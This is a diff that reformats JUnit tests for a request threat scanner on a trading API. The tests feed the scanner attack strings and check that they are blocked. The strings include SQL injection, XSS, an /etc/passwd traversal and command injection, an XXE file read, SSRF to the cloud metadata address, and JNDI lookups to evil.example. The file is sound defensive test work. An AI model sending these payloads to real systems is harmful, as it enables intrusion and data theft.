@@ -6,36 +6,45 @@ import static org.assertj.core.api.Assertions.assertThatThrownBy;
 import io.vertx.core.json.JsonObject;
 import java.util.List;
 import java.util.Map;
-import org.junit.jupiter.params.ParameterizedTest;
-import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.api.DisplayName;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
 
 class ThreatScannerTest {
 
   private final ThreatScanner scanner = new ThreatScanner(ThreatOptions.defaults());
 
-  private static RequestDescription get(String path, String query, Map<String, List<String>> headers) {
+  private static RequestDescription get(
+      String path, String query, Map<String, List<String>> headers) {
     return new RequestDescription("GET", path, query, headers, "", "");
   }
 
   private static RequestDescription post(String body, String contentType) {
-    return new RequestDescription("POST", "/api/v1/orders", "", Map.of("content-type", List.of(contentType)), body,
+    return new RequestDescription(
+        "POST",
+        "/api/v1/orders",
+        "",
+        Map.of("content-type", List.of(contentType)),
+        body,
         contentType);
   }
 
   @ParameterizedTest(name = "{0} in the query is blocked")
-  @CsvSource(delimiter = '|', value = {
-      "sqli               | id=1%27%20or%20%271%27%3D%271",
-      "xss                | q=%3Cscript%3Ealert(1)%3C/script%3E",
-      "path_traversal     | file=..%2F..%2F..%2Fetc%2Fpasswd",
-      "command_injection  | host=127.0.0.1%3B%20cat%20/etc/passwd",
-      "ldap_injection     | user=*)(uid=*))(|(uid=*",
-      "xxe                | xml=%3C!DOCTYPE%20a%20[%3C!ENTITY%20x%20SYSTEM%20%22file:///etc/passwd%22%3E]%3E",
-      "ssrf               | webhook=http://169.254.169.254/latest/meta-data/",
-      "template_injection | name={{7*7}}",
-      "jndi               | q=${jndi:ldap://evil.example/a}",
-      "nosql_injection    | user[$ne]=admin"})
+  @CsvSource(
+      delimiter = '|',
+      value = {
+        "sqli               | id=1%27%20or%20%271%27%3D%271",
+        "xss                | q=%3Cscript%3Ealert(1)%3C/script%3E",
+        "path_traversal     | file=..%2F..%2F..%2Fetc%2Fpasswd",
+        "command_injection  | host=127.0.0.1%3B%20cat%20/etc/passwd",
+        "ldap_injection     | user=*)(uid=*))(|(uid=*",
+        "xxe                | xml=%3C!DOCTYPE%20a%20[%3C!ENTITY%20x%20SYSTEM%20%22file:///etc/passwd%22%3E]%3E",
+        "ssrf               | webhook=http://169.254.169.254/latest/meta-data/",
+        "template_injection | name={{7*7}}",
+        "jndi               | q=${jndi:ldap://evil.example/a}",
+        "nosql_injection    | user[$ne]=admin"
+      })
   @DisplayName("each attack category in a query string")
   void eachCategoryInTheQuery(String category, String query) {
     ScanResult result = scanner.scan(get("/api/v1/markets", query, Map.of()));
@@ -47,22 +56,36 @@ class ThreatScannerTest {
   @Test
   @DisplayName("a clean trading request has no match at all")
   void cleanRequest() {
-    RequestDescription request = new RequestDescription("POST", "/api/v1/orders", "dry_run=true",
-        Map.of("user-agent", List.of("Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"),
-            "accept", List.of("application/json, text/plain, */*")),
-        "{\"symbol\":\"SOL/USDC\",\"side\":\"buy\",\"quantity\":\"1.25\",\"price\":142.37,"
-            + "\"note\":\"O'Brien's idea -- buy the dip; stop @ 138.5 (tight!)\"}", "application/json");
+    RequestDescription request =
+        new RequestDescription(
+            "POST",
+            "/api/v1/orders",
+            "dry_run=true",
+            Map.of(
+                "user-agent",
+                List.of("Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"),
+                "accept",
+                List.of("application/json, text/plain, */*")),
+            "{\"symbol\":\"SOL/USDC\",\"side\":\"buy\",\"quantity\":\"1.25\",\"price\":142.37,"
+                + "\"note\":\"O'Brien's idea -- buy the dip; stop @ 138.5 (tight!)\"}",
+            "application/json");
     ScanResult result = scanner.scan(request);
     assertThat(result.matches()).isEmpty();
     assertThat(result.threat()).isFalse();
   }
 
   @Test
-  @DisplayName("JSON bodies are scanned value by value, keys included, with the JSON path as location")
+  @DisplayName(
+      "JSON bodies are scanned value by value, keys included, with the JSON path as location")
   void jsonBody() {
-    ScanResult result = scanner.scan(post("{\"orders\":[{\"note\":\"x' union select password from users--\"}],"
-        + "\"filter\":{\"owner\":{\"$gt\":\"\"}}}", "application/json"));
-    assertThat(result.matches()).extracting(ScanResult.Match::location)
+    ScanResult result =
+        scanner.scan(
+            post(
+                "{\"orders\":[{\"note\":\"x' union select password from users--\"}],"
+                    + "\"filter\":{\"owner\":{\"$gt\":\"\"}}}",
+                "application/json"));
+    assertThat(result.matches())
+        .extracting(ScanResult.Match::location)
         .contains("body:$.orders[0].note", "body:$.filter.owner.$gt(key)");
     assertThat(result.blocked()).isTrue();
   }
@@ -70,22 +93,32 @@ class ThreatScannerTest {
   @Test
   @DisplayName("form bodies are split into decoded values")
   void formBody() {
-    ScanResult result = scanner.scan(post("name=ok&bio=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E",
-        "application/x-www-form-urlencoded"));
+    ScanResult result =
+        scanner.scan(
+            post(
+                "name=ok&bio=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E",
+                "application/x-www-form-urlencoded"));
     assertThat(result.matches()).extracting(ScanResult.Match::location).containsOnly("body:bio");
   }
 
   @Test
   @DisplayName("headers are scanned except credentials, and internal URLs count only in arguments")
   void headers() {
-    ScanResult agent = scanner.scan(get("/", "", Map.of("user-agent", List.of("${jndi:ldap://x/a}"))));
-    assertThat(agent.matches()).extracting(ScanResult.Match::location).contains("header:user-agent");
-    ScanResult credentials = scanner.scan(get("/", "", Map.of("authorization", List.of("Bearer ' or 1=1--"))));
+    ScanResult agent =
+        scanner.scan(get("/", "", Map.of("user-agent", List.of("${jndi:ldap://x/a}"))));
+    assertThat(agent.matches())
+        .extracting(ScanResult.Match::location)
+        .contains("header:user-agent");
+    ScanResult credentials =
+        scanner.scan(get("/", "", Map.of("authorization", List.of("Bearer ' or 1=1--"))));
     assertThat(credentials.matches()).isEmpty();
-    ScanResult origin = scanner.scan(get("/", "", Map.of("origin", List.of("http://localhost:3000"))));
+    ScanResult origin =
+        scanner.scan(get("/", "", Map.of("origin", List.of("http://localhost:3000"))));
     assertThat(origin.matches()).isEmpty();
     ScanResult argument = scanner.scan(get("/", "callback=http://localhost:3000/hook", Map.of()));
-    assertThat(argument.matches()).extracting(ScanResult.Match::rule).containsExactly("ssrf-internal-url");
+    assertThat(argument.matches())
+        .extracting(ScanResult.Match::rule)
+        .containsExactly("ssrf-internal-url");
   }
 
   @Test
@@ -113,12 +146,26 @@ class ThreatScannerTest {
   @Test
   @DisplayName("rules can be added and switched off from config, live")
   void extraAndDisabledRules() {
-    JsonObject section = new JsonObject()
-        .put("rules", List.of(Map.of("id", "custom-internal-symbol", "category", "sqli", "score", 5,
-            "pattern", "\\bsecret_pair\\b", "anchors", List.of("secret_pair"))))
-        .put("disabled_rules", List.of("nosql-operator"));
+    JsonObject section =
+        new JsonObject()
+            .put(
+                "rules",
+                List.of(
+                    Map.of(
+                        "id",
+                        "custom-internal-symbol",
+                        "category",
+                        "sqli",
+                        "score",
+                        5,
+                        "pattern",
+                        "\\bsecret_pair\\b",
+                        "anchors",
+                        List.of("secret_pair"))))
+            .put("disabled_rules", List.of("nosql-operator"));
     scanner.update(ThreatOptions.fromJson(section));
-    assertThat(scanner.scan("SECRET_PAIR").matches()).extracting(ScanResult.Match::rule)
+    assertThat(scanner.scan("SECRET_PAIR").matches())
+        .extracting(ScanResult.Match::rule)
         .containsExactly("custom-internal-symbol");
     assertThat(scanner.scan("user[$ne]=x").threat()).isFalse();
   }
@@ -128,7 +175,8 @@ class ThreatScannerTest {
   void paranoia() {
     assertThat(scanner.scan("please select name from the list").matches()).isEmpty();
     scanner.update(ThreatOptions.fromJson(new JsonObject().put("paranoia_level", 2)));
-    assertThat(scanner.scan("please select name from the list").matches()).extracting(ScanResult.Match::rule)
+    assertThat(scanner.scan("please select name from the list").matches())
+        .extracting(ScanResult.Match::rule)
         .containsExactly("sqli-keyword-sequence");
   }
 
@@ -137,35 +185,58 @@ class ThreatScannerTest {
   void disabledAndInvalid() {
     scanner.update(ThreatOptions.fromJson(new JsonObject().put("enabled", false)));
     assertThat(scanner.scan("' or 1=1--").threat()).isFalse();
-    assertThatThrownBy(() -> scanner.update(ThreatOptions.fromJson(new JsonObject().put("threshold", 0).put("mode", "loud"))))
+    assertThatThrownBy(
+            () ->
+                scanner.update(
+                    ThreatOptions.fromJson(
+                        new JsonObject().put("threshold", 0).put("mode", "loud"))))
         .isInstanceOf(IllegalArgumentException.class)
-        .hasMessage("security.threats.mode: expected one of block, detect-only, got \"loud\"; "
-            + "security.threats.threshold: expected an integer from 1 to 1000, got 0");
+        .hasMessage(
+            "security.threats.mode: expected one of block, detect-only, got \"loud\"; "
+                + "security.threats.threshold: expected an integer from 1 to 1000, got 0");
   }
 
   @Test
   @DisplayName("the reply body names rules and categories, never the scanned value")
   void replyShape() {
     JsonObject json = scanner.scan("'; drop table users; --").toJson();
-    assertThat(json.fieldNames()).containsExactlyInAnyOrder("threat", "blocked", "score", "threshold", "matches");
+    assertThat(json.fieldNames())
+        .containsExactlyInAnyOrder("threat", "blocked", "score", "threshold", "matches");
     assertThat(json.encode()).doesNotContain("drop table");
   }
 
   @Test
-  @DisplayName("values found clean are remembered, attacks never: repeated requests get the same verdicts")
+  @DisplayName(
+      "values found clean are remembered, attacks never: repeated requests get the same verdicts")
   void rememberedCleanValues() {
-    Map<String, List<String>> clean = Map.of("host", List.of("api.example:8001"),
-        "user-agent", List.of("antbot-bot/1.0"), "accept", List.of("application/json"));
+    Map<String, List<String>> clean =
+        Map.of(
+            "host",
+            List.of("api.example:8001"),
+            "user-agent",
+            List.of("antbot-bot/1.0"),
+            "accept",
+            List.of("application/json"));
     for (int i = 0; i < 3; i++) {
-      assertThat(scanner.scan(get("/api/v1/config/trading.max_position_size", "", clean)).matches()).isEmpty();
+      assertThat(scanner.scan(get("/api/v1/config/trading.max_position_size", "", clean)).matches())
+          .isEmpty();
     }
     // the same clean values beside an attack: the attack is still found, each time
-    Map<String, List<String>> withAttack = Map.of("host", List.of("api.example:8001"),
-        "user-agent", List.of("antbot-bot/1.0"), "referer", List.of("<script>alert(1)</script>"));
+    Map<String, List<String>> withAttack =
+        Map.of(
+            "host",
+            List.of("api.example:8001"),
+            "user-agent",
+            List.of("antbot-bot/1.0"),
+            "referer",
+            List.of("<script>alert(1)</script>"));
     for (int i = 0; i < 3; i++) {
-      ScanResult result = scanner.scan(get("/api/v1/config/trading.max_position_size", "", withAttack));
+      ScanResult result =
+          scanner.scan(get("/api/v1/config/trading.max_position_size", "", withAttack));
       assertThat(result.blocked()).as("request %d", i).isTrue();
-      assertThat(result.matches()).extracting(ScanResult.Match::location).containsOnly("header:referer");
+      assertThat(result.matches())
+          .extracting(ScanResult.Match::location)
+          .containsOnly("header:referer");
     }
   }
 
@@ -174,10 +245,13 @@ class ThreatScannerTest {
   void secondCopyOfAnAttackIsNotRemembered() {
     String attack = "<script>alert(1)</script>";
     // the second header is not evaluated against the XSS rules: they matched the first one already
-    scanner.scan(get("/api/v1/markets", "", Map.of("referer", List.of(attack), "x-note", List.of(attack))));
+    scanner.scan(
+        get("/api/v1/markets", "", Map.of("referer", List.of(attack), "x-note", List.of(attack))));
     ScanResult alone = scanner.scan(get("/api/v1/markets", "", Map.of("x-note", List.of(attack))));
     assertThat(alone.blocked()).isTrue();
-    assertThat(alone.matches()).extracting(ScanResult.Match::location).containsOnly("header:x-note");
+    assertThat(alone.matches())
+        .extracting(ScanResult.Match::location)
+        .containsOnly("header:x-note");
   }
 
   @Test
@@ -185,8 +259,23 @@ class ThreatScannerTest {
   void newRulesForgetCleanValues() {
     Map<String, List<String>> headers = Map.of("x-strategy", List.of("martingale-double-down"));
     assertThat(scanner.scan(get("/api/v1/markets", "", headers)).matches()).isEmpty();
-    scanner.update(ThreatOptions.fromJson(new JsonObject().put("rules", List.of(Map.of("id", "no-martingale",
-        "category", "sqli", "score", 5, "pattern", "martingale", "anchors", List.of("martingale"))))));
+    scanner.update(
+        ThreatOptions.fromJson(
+            new JsonObject()
+                .put(
+                    "rules",
+                    List.of(
+                        Map.of(
+                            "id",
+                            "no-martingale",
+                            "category",
+                            "sqli",
+                            "score",
+                            5,
+                            "pattern",
+                            "martingale",
+                            "anchors",
+                            List.of("martingale"))))));
     ScanResult after = scanner.scan(get("/api/v1/markets", "", headers));
     assertThat(after.blocked()).isTrue();
     assertThat(after.matches()).extracting(ScanResult.Match::rule).containsExactly("no-martingale");
